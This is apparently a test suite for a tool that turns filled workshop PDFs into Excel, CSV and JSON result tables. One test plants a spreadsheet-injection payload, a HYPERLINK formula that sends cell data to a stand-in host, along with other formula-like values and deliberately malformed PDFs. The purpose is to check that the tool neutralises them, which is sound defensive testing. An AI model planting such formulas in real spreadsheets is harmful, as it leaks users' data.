"""A coordinator's season: sheets of two decks, two versions of one deck's
cards, Finnish and Swedish sheets, a folder per unit, a filled board, a
copy, broken and hostile files - read by `results` into tables that add up
in one language, with every number checked."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pikepdf
import pytest
import yaml

from osallisuuspeli.cli import main
from osallisuuspeli.load import load_deck
from osallisuuspeli.places import BUILTIN_DECKS
from osallisuuspeli.results.dates import due_date, read_count, read_date
from osallisuuspeli.results.pool import map_files
from osallisuuspeli.results.season import in_play, read_season

from .workshops import fill, team

UNITS = {
    "kasvatus": [
        ("fi", "2026-01-15", "7", {"kokeilut": "worth_trying", "palvelumuotoilu": "done_well"}),
        ("sv", "3.2.2026", "5", {"kokeilut": "worth_trying"}),
    ],
    "sote": [
        ("fi", "12.3.2026", "n. 12", {"kokeilut": "done_well", "asiakasraati": "tried"}),
        ("sv", "2026-04-20", "8", {"kokeilut": "worth_trying"}),
    ],
}


@pytest.fixture(scope="module")
def season(tmp_path_factory) -> Path:
    """A folder as a coordinator keeps it: a subfolder per unit."""
    from click.testing import CliRunner

    root = tmp_path_factory.mktemp("season")
    run = CliRunner()
    for lang in ("fi", "sv"):
        assert run.invoke(main, ["build", "--fillable", "-q", "--lang", lang, "--out", str(root / "kit")]).exit_code == 0
    assert run.invoke(main, ["build", "--deck", "kunta", "-q", "--out", str(root / "kunta1")]).exit_code == 0
    # the municipal deck again, after a municipality added a card
    mine = root / "kunta-deck"
    shutil.copytree(BUILTIN_DECKS / "kunta", mine)
    structure = yaml.safe_load((mine / "deck.yaml").read_text(encoding="utf-8"))
    structure["cards"].append("porvoon-kahvit")
    (mine / "deck.yaml").write_text(yaml.safe_dump(structure, allow_unicode=True), encoding="utf-8")
    for lang, title in (("fi", "Porvoon kahvit"), ("sv", "Borgå kaffe"), ("en", "Porvoo coffee")):
        texts = yaml.safe_load((mine / f"{lang}.yaml").read_text(encoding="utf-8"))
        texts["cards"]["porvoon-kahvit"] = {"title": title}
        (mine / f"{lang}.yaml").write_text(yaml.safe_dump(texts, allow_unicode=True), encoding="utf-8")
    assert run.invoke(main, ["build", "--deck", str(mine), "-q", "--lang", "sv", "--out", str(root / "kunta2")]).exit_code == 0

    files = root / "tulokset"
    for unit, sheets in UNITS.items():
        (files / unit).mkdir(parents=True)
        for i, (lang, date, people, placed) in enumerate(sheets, 1):
            actions = [{"goal": f"{unit} {i}", "responsible": "Maija", "timetable": "31.5.2026"}]
            team(
                root / "kit" / lang / "results-sheet.pdf",
                files / unit / f"tiimi{i}.pdf",
                {"date": date, "organisation": unit.title() if i == 1 else f" {unit} ", "participants": people},
                placed,
                {"kokeilut": "keep"},
                actions,
            )
    # a board typed in a reader: cards by number and by title, one word that names no card
    fill(
        root / "kit" / "fi" / "board.pdf",
        files / "lauta.pdf",
        {
            "workshop.date": "5.5.2026",
            "workshop.organisation": "Kulttuuri",
            "step4.kayttajat.worth_trying": "7, Palvelumuotoilu\nHackathon",
            "step4.kayttajat.done_well": "3",
            "step1.notes": "Nuorisotalot",
            "step7.row1.goal": "Nuorten ääni",
            "step7.row1.implementation": "Liisa, syksy 2026",
        },
    )
    shutil.copy(files / "sote" / "tiimi1.pdf", files / "sote" / "tiimi1-kopio.pdf")
    (files / "broken-notes.pdf").write_text("not a pdf")
    team(
        root / "kunta1" / "fi" / "results-sheet.pdf",
        files / "00-kunta.pdf",
        {"date": "1.6.2026", "organisation": "Porvoo"},
        {"palautteet": "tried"},
    )
    team(
        root / "kunta2" / "sv" / "results-sheet.pdf",
        files / "01-kunta.pdf",
        {"date": "2.6.2026", "organisation": "Borgå"},
        {"palautteet": "worth_trying", "porvoon-kahvit": "worth_trying"},
    )
    return root


def _rows(book, sheet) -> list[tuple]:
    return list(book[sheet].iter_rows(values_only=True))


def test_a_season_adds_up_by_card_in_one_language_whatever_the_order(season, runner, tmp_path):
    out = tmp_path / "t.xlsx"
    result = runner.invoke(main, ["results", str(season / "tulokset"), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert result.stdout == f"Read 5 workshops (15 January 2026 – 5 May 2026); wrote {out}\n"
    assert result.stderr.splitlines() == [
        "osallisuuspeli: broken-notes.pdf: not a PDF file; skipped",
        "osallisuuspeli: sote/tiimi1.pdf: the same workshop as sote/tiimi1-kopio.pdf; not counted twice",
        "osallisuuspeli: 2 sheets of the deck 'kunta' not counted: run with --deck kunta for those",
        "osallisuuspeli: written in Finnish, the language most sheets were filled in; --lang sv or --lang en for another",
    ]
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Työpajat", "Kortit", "Uudet keinot", "Omat menetelmät", "Muistiinpanot"]
    workshops = _rows(book, "Työpajat")
    assert [(r[0], r[1].date().isoformat(), r[2], r[6]) for r in workshops[1:]] == [
        ("W1", "2026-01-15", "Kasvatus", 7),
        ("W2", "2026-02-03", "Kasvatus", 5),
        ("W3", "2026-03-12", "Sote", 12),
        ("W4", "2026-04-20", "Sote", 8),
        ("W5", "2026-05-05", "Kulttuuri", None),
    ]
    marks = _rows(book, "Kortit")
    assert marks[0] == (
        "Työpaja",
        "Päivämäärä",
        "Yksikkö",
        "Kortin tunniste",
        "Nro",
        "Menetelmäkortti",
        "Teeman tunniste",
        "Teema",
        "Merkinnän koodi",
        "Merkintä",
    )
    kokeilut = [(r[0], r[8], r[9]) for r in marks[1:] if r[3] == "kokeilut"]
    assert kokeilut == [
        ("W1", "worth_trying", "Kannattaa kokeilla"),
        ("W1", "keep", "Vihreä merkki"),
        ("W2", "worth_trying", "Kannattaa kokeilla"),  # filled in Swedish, counted in Finnish
        ("W2", "keep", "Vihreä merkki"),
        ("W3", "done_well", "Teemme jo hyvin"),
        ("W3", "keep", "Vihreä merkki"),
        ("W4", "worth_trying", "Kannattaa kokeilla"),
        ("W4", "keep", "Vihreä merkki"),
        ("W5", "worth_trying", "Kannattaa kokeilla"),  # typed on the board as "7"
    ]
    assert {r[5] for r in marks[1:] if r[3] == "kokeilut"} == {"Kokeilut"}
    board = [(r[3], r[8]) for r in marks[1:] if r[0] == "W5"]
    assert board == [("palvelumuotoilu", "worth_trying"), ("asiakasraati", "done_well"), ("kokeilut", "worth_trying")] or sorted(
        board
    ) == sorted([("palvelumuotoilu", "worth_trying"), ("asiakasraati", "done_well"), ("kokeilut", "worth_trying")])
    actions = _rows(book, "Uudet keinot")
    assert [(r[0], r[4], r[6], r[11]) for r in actions[1:]] == [
        ("W1", "kasvatus 1", "Maija", None),
        ("W2", "kasvatus 2", "Maija", None),
        ("W3", "sote 1", "Maija", None),
        ("W4", "sote 2", "Maija", None),
        ("W5", "Nuorten ääni", None, "Liisa, syksy 2026"),  # the board's Toteutus in its own column, not "who is responsible"
    ]
    assert actions[1][9].date().isoformat() == "2026-05-31"  # the due date read from the timetable
    notes = _rows(book, "Muistiinpanot")
    assert [(r[0], r[3], r[4], r[5]) for r in notes[1:]] == [
        ("W5", "step1.notes", "Askel 1", "Nuorisotalot"),
        ("W5", "step4.worth_trying", "Askel 4 · Kannattaa kokeilla", "Hackathon"),
    ]


def test_any_order_of_the_files_gives_the_same_tables(season, runner, tmp_path):
    files = sorted((season / "tulokset").rglob("*.pdf"))
    one = runner.invoke(main, ["results", *map(str, files), "--out", str(tmp_path / "a.xlsx")])
    two = runner.invoke(main, ["results", *map(str, reversed(files)), "--out", str(tmp_path / "b.xlsx")])
    assert one.exit_code == two.exit_code == 0
    a, b = (openpyxl.load_workbook(tmp_path / n) for n in ("a.xlsx", "b.xlsx"))
    assert _rows(a, "Kortit") == _rows(b, "Kortit") and _rows(a, "Uudet keinot") == _rows(b, "Uudet keinot")


def test_english_tables_have_the_decks_english_words_only(season, decks):
    s = read_season([season / "tulokset"], language="en")
    assert s.language == "en"
    from osallisuuspeli.results.tables import tables

    marks = tables(s)[1]
    fi_titles = {c.title.replace("\u00ad", "") for c in decks["helsinki", "fi"].cards}
    en_titles = {c.title.replace("\u00ad", "") for c in decks["helsinki", "en"].cards}
    titles = {row[5] for row in marks.rows}
    assert titles and titles <= en_titles and not (titles & (fi_titles - en_titles))
    assert marks.header[-1] == "Mark" and {row[9] for row in marks.rows} <= {
        "We already do well",
        "We have tried",
        "Worth trying",
        "Green token",
    }


def test_versions_of_one_deck_merge_by_card_id(season):
    s = read_season([season / "tulokset"], deck="kunta")
    assert [w.files for w in s.workshops] == [("00-kunta.pdf",), ("01-kunta.pdf",)]
    assert s.texts.cards[-1] == "porvoon-kahvit" and len(s.texts.cards) == 41
    assert in_play(s)["porvoon-kahvit"] == 1 and in_play(s)["palautteet"] == 2
    assert s.language == "fi"  # a tie: the deck's reference language
    # the added card has no Finnish title in any record or built-in deck: the Swedish one, marked
    assert s.texts.title("porvoon-kahvit", "fi") == "Borgå kaffe [sv]"
    assert s.notes[0] == "6 sheets of the deck 'helsinki' not counted: run with --deck helsinki for those"
    with_deck = read_season([season / "tulokset"], deck=str(season / "kunta-deck"))
    assert with_deck.texts.title("porvoon-kahvit", "fi") == "Porvoon kahvit"  # the deck's own files give its words


def test_period_and_unit_narrow_what_is_counted(season, runner, tmp_path):
    s = read_season([season / "tulokset"], since="2026-02-01", until="2026-04-30", units=["SOTE"])
    assert [w.date for w in s.workshops] == ["2026-03-12", "2026-04-20"]
    result = runner.invoke(main, ["results", str(season / "tulokset"), "--since", "1.2.2026", "--until", "2026-04-30", "--out", "-"])
    data = json.loads(result.stdout)
    assert [w["date"] for w in data["workshops"]] == ["2026-02-03", "2026-03-12", "2026-04-20"]
    bad = runner.invoke(main, ["results", str(season / "tulokset"), "--since", "31.2.2026"])
    assert bad.exit_code == 2
    assert bad.stderr == "osallisuuspeli: Invalid value for '--since': 31.2.2026: not a date; write it as 2.12.2026 or 2026-12-02\n"


def test_fewer_than_half_counted_is_an_exit_status_to_look_at(season, runner, tmp_path):
    result = runner.invoke(main, ["results", str(season / "tulokset"), "--deck", "kunta", "--out", str(tmp_path / "k.csv")])
    assert result.exit_code == 1
    assert result.stderr.splitlines()[-1] == "osallisuuspeli: only 2 of 9 files counted; the lines above say why"
    assert (tmp_path / "k.csv").is_file()


def test_csv_and_json_are_language_neutral_beside_the_words_and_never_a_formula(season, runner, tmp_path):
    crafted = tmp_path / "in"
    crafted.mkdir()
    evil = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
    team(
        season / "kit" / "fi" / "results-sheet.pdf",
        crafted / "=cmd.pdf",
        {"date": "1.9.2026", "organisation": "+unit", "leader": "@SUM(1)"},
        {"kokeilut": "tried"},
        actions=[{"goal": evil, "method": "-2+3", "responsible": "\t=1+1"}],
        own=[("=1+1", "ŋ 🙂"), ("#N/A", "#REF!")],
    )
    assert runner.invoke(main, ["results", str(crafted), "--out", str(tmp_path / "t.xlsx")]).exit_code == 0
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    formulas = [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    errors = [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "e"]
    assert errors == []  # "#N/A" typed by a team is text, not Excel's error value
    assert _rows(book, "Omat menetelmät")[2][3:5] == ("#N/A", "#REF!")
    actions = _rows(book, "Uudet keinot")
    assert actions[1][4] == evil and actions[1][5] == "-2+3" and actions[1][2] == "+unit"
    assert runner.invoke(main, ["results", str(crafted), "--out", str(tmp_path / "t.csv")]).exit_code == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "t-actions.csv").read_text(encoding="utf-8-sig")), delimiter=";"))
    assert rows[1][2] == "'+unit" and rows[1][4] == "'" + evil and rows[1][5] == "'-2+3"
    own = list(csv.reader(io.StringIO((tmp_path / "t-own_methods.csv").read_text(encoding="utf-8-sig")), delimiter=";"))
    assert own[1][3:] == ["'=1+1", "ŋ 🙂"] and own[2][3:] == ["#N/A", "#REF!"]
    out = runner.invoke(main, ["results", str(crafted), "--out", "-"]).stdout
    assert out.isascii() and json.loads(out)["own_methods"][0]["description"] == "ŋ 🙂"
    assert json.loads(out)["workshops"][0]["leader"] == "@SUM(1)"  # JSON keeps text as it is: no spreadsheet reads it


def test_the_same_season_gives_the_same_workbook_bytes(season, runner, tmp_path):
    for name in ("a", "b"):
        assert runner.invoke(main, ["results", str(season / "tulokset"), "--out", str(tmp_path / f"{name}.xlsx")]).exit_code == 0
        time.sleep(1.1)  # a time stamp to the second would differ
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


# -- hostile and damaged files: each costs only itself ---------------------------


def _with_record(source: Path, target: Path, record: str) -> None:
    with pikepdf.open(source) as pdf:
        pdf.docinfo["/OsallisuuspeliRecord"] = record
        pdf.save(target)


def _deep_kids(source: Path, target: Path, depth: int) -> None:
    with pikepdf.open(source) as pdf:
        node = pdf.make_indirect(pikepdf.Dictionary(T=pikepdf.String("x"), FT=pikepdf.Name.Tx, V=pikepdf.String("v")))
        for i in range(depth):
            node = pdf.make_indirect(pikepdf.Dictionary(T=pikepdf.String(f"n{i}"), Kids=pikepdf.Array([node])))
        pdf.Root.AcroForm.Fields.append(node)
        pdf.save(target)


def _loop(source: Path, target: Path) -> None:
    with pikepdf.open(source) as pdf:
        a = pdf.make_indirect(pikepdf.Dictionary(T=pikepdf.String("a")))
        b = pdf.make_indirect(pikepdf.Dictionary(T=pikepdf.String("b"), Kids=pikepdf.Array([a]), Parent=a))
        a.Kids = pikepdf.Array([b])
        a.Parent = b
        pdf.Root.AcroForm.Fields.append(a)
        pdf.save(target)


RAW_INFO_LOOP = b"""%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >> endobj
4 0 obj 5 0 R endobj
5 0 obj 4 0 R endobj
trailer << /Root 1 0 R /Info 4 0 R /Size 6 >>
%%EOF
"""


def _self_prev() -> bytes:
    """A trailer whose /Prev points at its own cross-reference table: old pypdf loops for ever."""
    body = b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
    xref = len(body)
    table = b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000058 00000 n \n"
    trailer = b"trailer << /Root 1 0 R /Size 3 /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (xref, xref)
    return body + table + trailer


def test_hostile_files_are_each_skipped_with_a_sentence_and_the_rest_counted(season, tmp_path):
    sheet = season / "tulokset" / "kasvatus" / "tiimi1.pdf"
    bad = tmp_path / "bad"
    bad.mkdir()
    _deep_kids(sheet, bad / "broken-deep.pdf", 3000)
    _loop(sheet, bad / "broken-loop.pdf")
    (bad / "broken-info.pdf").write_bytes(RAW_INFO_LOOP)
    (bad / "broken-prev.pdf").write_bytes(_self_prev())
    _with_record(sheet, bad / "broken-nested.pdf", "[" * 100_000 + "]" * 100_000)
    with pikepdf.open(sheet) as pdf:
        good = json.loads(str(pdf.docinfo["/OsallisuuspeliRecord"]))
    good["cards"][0]["id"] = {"a": 1}
    _with_record(sheet, bad / "broken-dict-id.pdf", json.dumps(good))
    _with_record(sheet, bad / "broken-shape.pdf", '{"form": "results-sheet"}')
    shutil.copy(sheet, bad / "good.pdf")
    s = read_season([bad])
    reasons = {sk.file: sk.reason for sk in s.skipped}
    # the loop is walked once, so that sheet counts; the untouched copy is then the same workshop
    assert [w.files for w in s.workshops] == [("broken-loop.pdf",)]
    assert reasons == {
        "broken-deep.pdf": "its form has more fields, or deeper, than any sheet of this tool; skipped",
        "broken-dict-id.pdf": "its osallisuuspeli record is damaged; skipped",
        "broken-info.pdf": "not a fillable board or results sheet of osallisuuspeli (build the kit again with --fillable, or use results-sheet.pdf); skipped",
        "broken-nested.pdf": "its osallisuuspeli record is damaged; skipped",
        "broken-prev.pdf": "not a readable PDF (damaged or cut short; save or download it again); skipped",
        "broken-shape.pdf": "its osallisuuspeli record is damaged; skipped",
        "good.pdf": "the same workshop as broken-loop.pdf; not counted twice",
    }


def _slow(item: int) -> int:
    if item == 2:
        time.sleep(30)
    if item == 3:
        raise ValueError("not a sheet")
    if item == 4:
        raise RecursionError
    return item * 10


def test_a_file_over_its_time_budget_costs_only_itself():
    """The budget is far above a quick file's time on a loaded machine (a worker starting up counts) and far below the slow one's 30 s."""
    outcomes = sorted(map_files(_slow, [1, 2, 3, 4, 5], workers=2, budget=8.0))
    assert [(o.item, o.ok, o.value) for o in outcomes] == [
        (0, True, 10),
        (1, False, "took too long to read"),
        (2, False, "not a sheet"),
        (3, False, "damaged in a way this tool cannot read (RecursionError)"),
        (4, True, 50),
    ]


@pytest.mark.parametrize(
    "text,iso",
    [
        ("2.12.2026", "2026-12-02"),
        ("2.12.26", "2026-12-02"),
        ("2026-12-02", "2026-12-02"),
        ("2.12.", "2026-12-02"),
        (" 12. 3. 2025 ", "2025-03-12"),
        ("2/12/2026", "2026-12-02"),
    ],
)
def test_dates_as_people_write_them(text, iso):
    assert read_date(text, 2026) == iso


@pytest.mark.parametrize("text", ["kevät", "31.2.2026", "2026-13-01", "12.2026"])
def test_a_date_that_cannot_be_read_is_said(text):
    with pytest.raises(ValueError):
        read_date(text, 2026)


def test_counts_and_due_dates():
    assert [read_count(t) for t in ("12", "n. 12", "12 henkilöä", "5-7", "", "kaikki")] == [12, 12, 12, None, None, None]
    assert due_date("viimeistään 31.5.2027") == "2027-05-31"
    assert due_date("5/2027") == "2027-05-31" and due_date("2027-02-03 mennessä") == "2027-02-03"
    assert due_date("kevät 2027") == "" and due_date("Liisa") == ""


def test_an_unreadable_date_is_counted_undated_and_said(season, tmp_path):
    team(
        season / "kit" / "fi" / "results-sheet.pdf",
        tmp_path / "x.pdf",
        {"date": "syksyllä", "organisation": "Liikunta"},
        {"kokeilut": "tried"},
    )
    s = read_season([tmp_path])
    assert s.workshops[0].date == "" and s.workshops[0].date_typed == "syksyllä"
    assert s.notes == ("x.pdf: the date 'syksyllä' could not be read (write it as 2.12.2026); counted without a date",)


def test_a_nearly_empty_sheet_is_counted_and_flagged(season, tmp_path):
    team(season / "kit" / "fi" / "results-sheet.pdf", tmp_path / "x.pdf", {"date": "1.1.2026", "organisation": "Liikunta"}, {})
    s = read_season([tmp_path])
    assert len(s.workshops) == 1 and s.workshops[0].thin
    assert s.notes == ("x.pdf: no card placed and no action agreed; counted, marked as nearly empty",)
    assert load_deck("helsinki", "fi").id == "helsinki"


@pytest.mark.skipif(sys.platform == "win32", reason="a terminal is made with pty, which Windows lacks")
def test_a_long_run_shows_its_progress_on_a_terminal_and_nothing_in_a_pipe(season, tmp_path):
    import pty

    many = tmp_path / "many"
    many.mkdir()
    for i in range(25):  # more than 20 files: a run long enough to show a bar
        team(
            season / "kit" / "fi" / "results-sheet.pdf",
            many / f"tiimi{i:02}.pdf",
            {"date": f"{i + 1}.9.2026", "organisation": "Liikunta"},
            {"kokeilut": "tried"},
        )
    command = [sys.executable, "-m", "osallisuuspeli", "results", str(many), "--out", str(tmp_path / "t.csv")]
    primary, secondary = pty.openpty()
    done = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=secondary)
    os.close(secondary)
    seen = b""
    while True:
        try:
            chunk = os.read(primary, 65536)
        except OSError:  # the other end closed
            break
        if not chunk:
            break
        seen += chunk
    os.close(primary)
    assert done.wait(120) == 0
    text = seen.decode("utf-8", "replace")
    assert "Reading  [" in text and "100%" in text  # click's bar, on the terminal
    piped = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert piped.returncode == 0 and "Reading" not in piped.stderr and "%" not in piped.stderr


def test_json_on_a_cp1252_console_is_valid_and_ascii(season, tmp_path):
    """A Windows console's code page has no ŋ or 🙂: `results --out -` still writes JSON that reads back."""
    crafted = tmp_path / "in"
    crafted.mkdir()
    team(
        season / "kit" / "fi" / "results-sheet.pdf",
        crafted / "x.pdf",
        {"date": "1.9.2026", "organisation": "Sámi"},
        {"kokeilut": "tried"},
        own=[("Oma ŋ", "ŋ 🙂")],
    )
    command = [sys.executable, "-m", "osallisuuspeli", "results", str(crafted), "--out", "-"]
    done = subprocess.run(command, capture_output=True, timeout=120, env=os.environ | {"PYTHONIOENCODING": "cp1252"})
    assert done.returncode == 0, done.stderr
    assert done.stdout.isascii()
    assert json.loads(done.stdout)["own_methods"][0]["description"] == "ŋ 🙂"
